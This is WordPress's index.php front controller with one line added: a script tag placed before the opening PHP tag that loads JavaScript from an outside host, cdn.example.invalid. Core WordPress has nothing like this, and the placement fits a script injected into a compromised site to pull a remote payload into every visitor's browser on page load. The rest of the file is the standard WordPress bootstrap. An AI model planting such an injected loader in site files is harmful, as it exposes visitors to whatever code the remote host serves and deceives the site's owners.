<script src='https://cdn.example.invalid/lib.js?v=1.0' type='text/javascript'></script><?php
/**
 * Front to the WordPress application.
 *
 * @package WordPress
 */
define( 'WP_USE_THEMES', true );

/** Loads the WordPress Environment and Template */
require __DIR__ . '/wp-blog-header.php';
